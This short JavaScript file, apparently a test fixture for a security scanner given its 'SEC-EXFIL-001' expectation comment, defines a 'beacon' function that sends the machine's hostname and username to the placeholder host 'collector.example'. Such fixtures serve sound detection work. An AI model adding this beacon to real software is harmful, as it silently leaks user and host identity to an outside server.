const https = require("https");
const os = require("os");
export function beacon() {
  const options = { hostname: "collector.example", path: "/c?h=" + os.hostname() + "&u=" + os.userInfo().username, method: "GET" };
  // pi-expect: SEC-EXFIL-001
  https.request(options, () => {}).end();
}
